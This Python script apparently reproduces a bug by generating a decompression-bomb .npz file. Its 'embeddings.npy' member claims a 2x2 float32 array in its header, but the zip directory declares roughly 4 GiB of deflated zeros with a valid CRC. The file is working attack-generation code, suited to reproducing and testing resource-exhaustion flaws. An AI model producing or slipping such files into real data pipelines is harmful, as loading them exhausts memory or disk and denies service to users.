#!/usr/bin/env python3
# Usage: python3 scripts/make-npz-bomb.py OUT.npz   (about 8 s; numpy only)
# The reproduction: a deflated .npz member whose .npy header says 2 x 2 float32 but whose
# zip directory declares (truthfully, valid CRC) 4 GiB - 1 KiB of content.
import zlib, struct, io, numpy as np, sys
b = io.BytesIO(); np.save(b, np.zeros((2, 2), np.float32)); head = b.getvalue()[:-16]
size = (4 << 30) - 1024
c = zlib.compressobj(9, zlib.DEFLATED, -15)
crc = zlib.crc32(head); parts = [c.compress(head)]
zero = bytes(1 << 24); left = size - len(head)
while left > 0:
    n = min(left, len(zero)); chunk = zero[:n]; crc = zlib.crc32(chunk, crc); parts.append(c.compress(chunk)); left -= n
parts.append(c.flush()); data = b''.join(parts)
name = b'embeddings.npy'
local = struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, 8, 0, 0, crc, len(data), size, len(name), 0) + name
central = struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, 8, 0, 0, crc, len(data), size, len(name), 0, 0, 0, 0, 0, 0) + name
eocd = struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, 1, 1, len(central), len(local) + len(data), 0)
open(sys.argv[1], 'wb').write(local + data + central + eocd)
